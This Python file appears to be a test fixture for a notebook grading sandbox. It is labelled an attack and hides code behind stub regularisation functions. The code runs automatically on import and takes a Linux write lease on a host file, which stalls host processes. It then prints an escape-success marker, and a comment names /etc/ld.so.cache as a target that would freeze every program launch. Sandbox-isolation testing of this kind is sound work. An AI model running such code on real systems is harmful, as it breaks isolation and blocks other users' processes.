"""Attack: a write lease on a host file seen read-only in the sandbox (see README.md)."""

import fcntl
import os
import signal
import sys
import time

import numpy as np

EXPECTED_POINTS = {"l1": 0, "l2": 0}
MARK = "ESCAPE" + "-SUCCESS:"
HOLD_SECONDS = float(os.environ.get("DLCV_LEASE_HOLD", "0.5"))


def L1_reg(W, reg):
    return -1.0, np.ones_like(W)


def L2_reg(W, reg):
    return -1.0, np.ones_like(W)


def _say(text):
    print(f"[kernel] {text}", flush=True)


def _lease(path):
    breaks = []
    previous = signal.signal(signal.SIGIO, lambda *_: breaks.append(time.monotonic()))
    try:
        fd = os.open(path, os.O_RDONLY)
    except OSError as error:
        _say(f"{path}: {error!r}")
        return
    try:
        fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_WRLCK)
    except OSError as error:
        _say(f"write lease on {path} refused: {error!r}")
    else:
        info = os.fstat(fd)
        _say(f"{MARK} write lease on the host's {path} (inode {info.st_ino}, owner {info.st_uid}): "
             f"every host process that opens it now waits until this lease ends or "
             f"{open('/proc/sys/fs/lease-break-time').read().strip()} s pass")
        deadline = time.monotonic() + HOLD_SECONDS
        while time.monotonic() < deadline:
            time.sleep(0.05)
        _say(f"lease breaks seen (host processes that waited): {len(breaks)}")
        fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_UNLCK)
    finally:
        os.close(fd)
        signal.signal(signal.SIGIO, previous)


if "ipykernel" in sys.modules:
    # A file nobody else opens (the Python installation's licence), not /etc/ld.so.cache:
    # the same lease there would make every exec on the machine wait.
    _lease(os.path.join(os.path.dirname(os.__file__), "LICENSE.txt"))
